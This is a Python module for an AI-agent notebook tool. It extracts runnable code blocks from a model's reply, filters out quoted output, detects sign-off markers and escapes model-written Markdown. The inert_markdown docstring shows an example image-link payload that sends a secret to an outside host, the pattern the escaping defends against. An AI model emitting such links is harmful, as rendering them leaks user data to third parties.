"""Finding code in an assistant's reply, and telling whether the reply signs off.

Pure text functions: no IPython, no network. The conversation loop uses them to
turn a reply into the blocks it proposes to run; the widget, exporter and log use
:func:`inert_markdown` to show a reply. Every function here is linear in the length of
the reply (fuzzed in tests/test_fuzz_text.py), so a megabyte on one line costs
milliseconds, not minutes.

Not here: writing fences (:func:`agent_magic.text.fence`), hiding secrets.
"""

from __future__ import annotations

import bisect
import itertools
import re
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field

PYTHON = "python"
SHELL = "sh"

_ALIASES = {
    "": PYTHON,
    "python": PYTHON,
    "py": PYTHON,
    "python3": PYTHON,
    "ipython": PYTHON,
    "ipython3": PYTHON,
    "sh": SHELL,
    "bash": SHELL,
    "shell": SHELL,
    "console": SHELL,
}

# An opening fence: up to 3 spaces of indent, 3+ backticks or tildes, an info string
# (trailing blanks stripped after the match: a lazy info followed by ``[ \t]*$`` would be
# quadratic on a long line of spaces). The closing fence must use the same character and
# be at least as long (see _closes).
_OPEN = re.compile(r"^(?P<indent> {0,3})(?P<fence>`{3,}|~{3,})[ \t]*(?P<info>[^\n`]*)$")


@dataclass(frozen=True)
class CodeBlock:
    """One fenced block: its normalised language ("python", "sh" or the tag as written)."""

    language: str
    code: str
    # Set when the block came from a native tool call; not part of equality so an
    # edit is judged by language and code alone.
    tool_call_id: str | None = field(default=None, compare=False)

    @property
    def runnable(self) -> bool:
        return self.language in (PYTHON, SHELL)


def normalize_language(info: str) -> str:
    """Map a fence's info string to "python", "sh", or the lower-cased tag itself."""
    tag = info.strip().split(maxsplit=1)[0].lower() if info.strip() else ""
    tag = tag.lstrip("{.").rstrip("}")  # ```{python} and ```.py styles
    return _ALIASES.get(tag, tag)


def extract_code_blocks(text: str) -> list[CodeBlock]:
    """Return the fenced code blocks of a Markdown reply, in order.

    Handles ``` and ~~~ fences, CRLF line ends, trailing spaces after the tag, info
    strings with attributes (```` ```python {.class} ````, ```` ```py title="x" ````: the
    first word is the language) and untagged blocks (taken as python). An unclosed final
    block is still returned: models cut off by a token limit often forget the closing
    fence.
    """
    return [block for block, _, _, _ in _fenced(text) if block is not None]


# Fence tags for data, not code: a reply that quotes an output, a table or a file this way
# proposes nothing to run (told "cannot be run here", small models tried again and again).
_DATA = (
    "text txt plaintext plain output out stdout stderr result results log json jsonl csv tsv "
    "yaml yml toml xml html markdown md none raw"
)
DATA_TAGS = frozenset(_DATA.split())


def proposed_blocks(text: str, shown: str = "") -> list[CodeBlock]:
    """The blocks of a reply that propose code to run: every fenced block but quotes.

    A quote is a block tagged as data (:data:`DATA_TAGS`: ```` ```output ````, ```` ```json
    ````...), or an untagged block that only repeats lines of ``shown`` (what the model was
    last told: a step's output) or holds one literal (``15``, ``[1, 4, 9]``, ``'MCMXCIV'``).
    Small models quote a step's output in a bare fence; run as Python, the quote printed
    itself back and the model quoted it again until the turns ran out.
    """
    found = []
    lines = _lines(text)
    said = "\n" + "\n".join(line.rstrip() for line in _lines(shown)) + "\n" if shown else ""
    for block, start, _, info in _fenced(text):
        if block is None or block.language in DATA_TAGS:
            continue
        if not info.strip():
            if _quotes(block.code, said):
                continue
            before = start - 1
            while before >= 0 and not lines[before].strip():
                before -= 1
            if before >= 0 and _OUTPUT_INTRO.search(lines[before][-200:]):
                continue
        found.append(block)
    return found


# The prose line before an untagged fence that introduces output, not code: "Output:",
# "**Expected output:**", "When you run this code, it will output:", "The output is:".
_OUTPUT_INTRO = re.compile(
    r"^[\s#*_>]*(?:expected |sample |example )?(?:output|result)s?[\s*_]*:?[\s*_]*$"
    r"|\b(?:will|would|should) (?:output|print|display|produce|show)\b[^`]*:[\s*_]*$"
    r"|\boutput (?:is|will be|should be|would be)\b[^`]*:[\s*_]*$",
    re.IGNORECASE,
)


def _quotes(code: str, said: str) -> bool:
    """Is an untagged block's text a quote: whole lines of ``said`` (what the model was
    shown, between newlines), or one literal value?"""
    if said and "\n" + "\n".join(line.rstrip() for line in code.split("\n")) + "\n" in said:
        return True
    if len(code) > 10_000:  # no literal_eval on a megabyte
        return False
    import ast

    try:
        ast.literal_eval(code.strip())
    except (ValueError, SyntaxError, TypeError, MemoryError, RecursionError):
        return False
    return True


def strip_code_blocks(text: str) -> str:
    """The reply's prose: the text with every fenced block removed (shown apart)."""
    prose = "\n".join(line for line, code in _marked_lines(text) if not code)
    return re.sub(r"\n{3,}", "\n\n", prose).strip()


def prose_with_places(text: str, lifted: Sequence[CodeBlock], place: Callable[[int], str]) -> str:
    """The reply's prose, as :func:`strip_code_blocks`, with a line ``place(i)`` where the
    ``i``-th of the ``lifted`` blocks (those proposed to run, shown apart, in order) was,
    so that "Here is how:" is followed by where the code went."""
    lines = _lines(text)
    kept: list[str] = []
    pos = found = 0
    for block, start, end, _ in _fenced(text):
        kept.extend(lines[pos:start])
        if block is not None and found < len(lifted) and block == lifted[found]:
            kept.extend(["", place(found), ""])
            found += 1
        pos = end
    kept.extend(lines[pos:])
    return re.sub(r"\n{3,}", "\n\n", "\n".join(kept)).strip()


def _marked_lines(text: str) -> list[tuple[str, bool]]:
    """Each line of the text, with True when it belongs to a fenced block."""
    lines = _lines(text)
    code = [False] * len(lines)
    for _, start, end, _ in _fenced(text):
        code[start:end] = [True] * (end - start)
    return list(zip(lines, code, strict=True))


def inert_markdown(text: str) -> str:
    """Model-written Markdown made safe to render: nothing in it loads or runs by itself.

    A reply (or an output it quotes) could carry ``![](https://host/?q=<secret>)`` or
    raw HTML such as ``<img src=...>``: a notebook renders those on display, which
    would send data to a stranger's server without a click. So every ``![`` becomes
    ``[image: `` (an image turns into a link, or plain text) and ``<`` is escaped
    (HTML shows as text): as ``&lt;`` in prose, as ``\\lt`` in maths (which a notebook
    hands to MathJax unescaped). Fenced blocks and code spans are left as they are:
    they render as code. Anything this misreads as prose is escaped too, which costs
    looks, never safety (a 4-space indented code block shows ``&lt;``).
    """
    parts = []
    for code, group in itertools.groupby(_marked_lines(text), key=lambda item: item[1]):
        lines = "\n".join(line for line, _ in group)
        parts.append(lines if code else _inert_prose(lines))
    return "\n".join(parts)


def _inert_prose(text: str) -> str:
    if "<" not in text and "![" not in text:
        # Nothing to escape, in prose, maths or code alike (no span begins with "[" or
        # ends with "!", so none splits a "!["): finding the spans would change nothing,
        # and a line of a million "$a" holds a third of a million of them.
        return text
    pieces, last = [], 0
    for start, end, code in _spans(text):
        if not code and text.find("<", start, end) == -1:
            continue  # maths without "<" reads as prose does: it stays in the prose around
        pieces.append(_inert_text(text[last:start]))
        span = text[start:end]
        pieces.append(span if code else span.replace("![", "[image: ").replace("<", "\\lt "))
        last = end
    pieces.append(_inert_text(text[last:]))
    return "".join(pieces)


# Where a span may open: a backtick run, a dollar, a backslash before ( or [; keyed by
# whether \) and \] occur in the text at all (an opener that cannot close is skipped).
_OPENERS = {
    (True, True): re.compile(r"`+|\$|\\[(\[]"),
    (True, False): re.compile(r"`+|\$|\\\("),
    (False, True): re.compile(r"`+|\$|\\\["),
    (False, False): re.compile(r"`+|\$"),
}
_BACKTICK_RUNS = re.compile(r"`+")
_BLANK_LINE = re.compile(r"(?=\n[ \t]*\n)")
_DOLLAR_OR_NEWLINE = re.compile(r"[$\n]")
_SINGLE_DOLLAR = re.compile(r"(?<![\\$])\$[^$\n]+?(?<!\\)\$")


def _spans(text: str) -> list[tuple[int, int, bool]]:
    """(start, end, is_code) of each code span and maths span, left to right.

    Within one paragraph (no blank line inside): a code span is a backtick run not after
    a backslash, up to the next run of the same length; maths is ``$$...$$``, ``$...$``
    (on one line, no ``$`` inside, not after a backslash), ``\\(...\\)`` or
    ``\\[...\\]``; each has some content. This is what one regex with lazy bodies
    would match, found in linear time: the regex would rescan to the paragraph's end from
    every unclosed opener, this looks each closer up once (runs indexed by length, the
    next closer of each kind remembered, blank lines found once).
    """
    if "`" not in text and "$" not in text and "\\" not in text:
        return []
    if "`" not in text and "$$" not in text and "\\(" not in text and "\\[" not in text:
        # Only $...$ maths can open (a long formula-free line of prices, minified code):
        # that regex is linear by itself, and running it whole saves a Python loop.
        return [(m.start(), m.end(), False) for m in _SINGLE_DOLLAR.finditer(text)]
    size = len(text)
    blanks = [m.start() for m in _BLANK_LINE.finditer(text)] + [size]
    runs: dict[int, list[int]] = {}
    for m in _BACKTICK_RUNS.finditer(text):
        runs.setdefault(m.end() - m.start(), []).append(m.start())
    found: list[tuple[int, int, bool]] = []
    closers: dict[str, int] = {}  # "$$", "\\)", "\\]" -> its next occurrence found (or -1)
    after = bisect.bisect_left
    pos = 0
    openers = _OPENERS["\\)" in text, "\\]" in text]
    for opener in openers.finditer(text):
        start = opener.start()
        if start < pos:  # inside a span already found
            continue
        token = opener.group()
        before = text[start - 1] if start else ""
        end = -1
        first = token[0]
        if first == "`":
            if before == "\\":
                continue
            width = len(token)
            starts = runs[width]
            i = after(starts, start + 1)
            if i < len(starts) and starts[i] < blanks[after(blanks, start + width)]:
                end = starts[i] + width
        elif first == "$" and text.startswith("$$", start):
            if before != "\\":
                end = _closer(text, "$$", start + 3, closers, blanks)
        elif first == "$":
            if before != "\\" and before != "$":
                stop = _DOLLAR_OR_NEWLINE.search(text, start + 1)
                if stop is not None and stop.start() > start + 1 and stop.group() == "$":
                    end = stop.start() + 1 if text[stop.start() - 1] != "\\" else -1
        else:  # \( or \[
            end = _closer(text, "\\)" if token == "\\(" else "\\]", start + 3, closers, blanks)
        if end != -1:
            found.append((start, end, first == "`"))
            pos = end
    return found


def _closer(text: str, kind: str, pos: int, closers: dict[str, int], blanks: list[int]) -> int:
    """End of the first ``kind`` at or after ``pos`` within the paragraph, or -1.

    The answer of the last search for ``kind`` is reused while it lies ahead, so no
    stretch of text is searched twice for the same closer.
    """
    known = closers.get(kind)
    if known is None or (known != -1 and known < pos):
        known = closers[kind] = text.find(kind, pos)
    # The body starts one character before ``pos`` and may not hold a blank line.
    if known == -1 or known >= blanks[bisect.bisect_left(blanks, pos - 1)]:
        return -1
    return known + len(kind)


def _inert_text(text: str) -> str:
    return text.replace("![", "[image: ").replace("<", "&lt;")


def _lines(text: str) -> list[str]:
    return text.replace("\r\n", "\n").replace("\r", "\n").split("\n")


def _fenced(text: str) -> list[tuple[CodeBlock | None, int, int, str]]:
    """Each fenced block with its line span [start, end) and its info string; None for an
    empty block."""
    lines = _lines(text)
    found: list[tuple[CodeBlock | None, int, int, str]] = []
    i = 0
    while i < len(lines):
        match = _OPEN.match(lines[i])
        if not match:
            i += 1
            continue
        start = i
        fence, indent = match["fence"], len(match["indent"])
        body: list[str] = []
        i += 1
        while i < len(lines) and not _closes(lines[i], fence):
            line = lines[i]
            # Strip the opening fence's indent from the body, as CommonMark does.
            body.append(line[min(indent, len(line) - len(line.lstrip(" "))) :])
            i += 1
        i += 1  # skip the closing fence
        code = "\n".join(body).strip("\n")
        info = match["info"].rstrip(" \t")
        block = CodeBlock(normalize_language(info), code) if code.strip() else None
        found.append((block, start, min(i, len(lines)), info))
    return found


def _closes(line: str, fence: str) -> bool:
    """Is ``line`` a closing fence for ``fence``: up to 3 spaces, at least as many of the
    same character, then only blanks."""
    stripped = line.rstrip(" \t")
    body = stripped.lstrip(" ")
    if len(stripped) - len(body) > 3 or len(body) < len(fence):
        return False
    return body.count(fence[0]) == len(body)


def prints_marker(blocks: list[CodeBlock] | tuple[CodeBlock, ...], marker: str) -> bool:
    """Does the last Python block end by printing the marker (``print("TERMINATE")``)?
    Small models sign off that way, inside the code rather than after it."""
    if not marker or not blocks or blocks[-1].language != PYTHON:
        return False
    last = blocks[-1].code.rstrip().rsplit("\n", 1)[-1].strip()
    return last in (f'print("{marker}")', f"print('{marker}')")


def is_termination(text: str, marker: str = "TERMINATE") -> bool:
    """True when the reply ends with the marker (trailing punctuation, space and fences aside)."""
    if not marker:
        return False
    tail = text.rstrip().rstrip("`~*_.!\"' \t\n\r")
    return tail.endswith(marker)
